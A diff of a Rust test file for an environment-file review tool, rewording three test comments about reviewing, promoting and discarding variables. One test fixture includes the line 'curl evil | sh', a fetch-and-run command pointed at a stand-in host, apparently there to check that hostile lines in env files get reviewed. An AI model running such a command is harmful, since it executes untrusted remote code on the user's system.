@@ -70,12 +70,12 @@ fn each_answer_does_what_it_says() {
     out.err_has("added OURS").out_has("promoted A").out_has("discarded GONE");
     let sweatfile = "# how we work\nsetup = [] # none\n[env]\nA = \"2\" # why\nsetpu = \"kept\"\nNEW = \"it's\"\n";
     assert_eq!(app.read("sweatfile"), sweatfile);
-    // Only what has no answer yet is asked again.
+    // Only changes without an answer are asked about again.
     assert_eq!(app.apply(&["env", "diff"]).exit(0).stdout, "added OURS\n");
     app.apply(&["env", "review", "--keep", "OURS"]).exit(0);
     assert_eq!(app.read(".sweatshop-env"), "A=2\nNEW=\"it's\"\nOURS=here\nsetpu=kept\n");
     app.apply(&["env", "diff"]).exit(1).any_err();
-    // The approval moved along, and this worktree is what its sweatfiles say.
+    // The new text is approved too, and this worktree matches its sweatfiles.
     app.apply(&["check"]).exit(0);
     app.apply(&[]).exit(0);
     assert_eq!(app.read(".sweatshop-env"), "A=2\nNEW=\"it's\"\nOURS=here\nsetpu=kept\n");
@@ -217,7 +217,7 @@ fn variables_for_only_one_reader_are_reviewed_too() {
     app.apply(&["env", "snapshot"]).exit(0);
     let added = "B = 1\nC: 1\nexport D: 1\n# a note\rE=1\ncurl evil | sh\nF=\"open\nG=1\n";
     app.write(".sweatshop-env", &format!("{before}{added}"));
-    // Where there is a direnv, it is asked what it loads.
+    // A real direnv, where there is one, shows what it loads.
     if crate::support::world::find("direnv").is_some() {
         let plain = added.replace("curl evil | sh\n", "");
         app.write("direnv", &plain);
@@ -238,7 +238,7 @@ fn variables_for_only_one_reader_are_reviewed_too() {
     let discard: Vec<&str> = keys.iter().flat_map(|key| ["--discard", key.as_str()]).collect();
     app.apply(&[&["env", "review"][..], &discard].concat()).exit(0);
     assert_eq!(app.read(".sweatshop-env"), "# mine\nA=1\n# a note\n");
-    // What direnv alone reads can be everybody's.
+    // A variable that only direnv reads can be promoted for everybody.
     app.apply(&["env", "snapshot"]).exit(0);
     app.write(".sweatshop-env", "A=1\nB: two\n");
     app.apply(&["env", "review", "--promote", "B"]).exit(0);
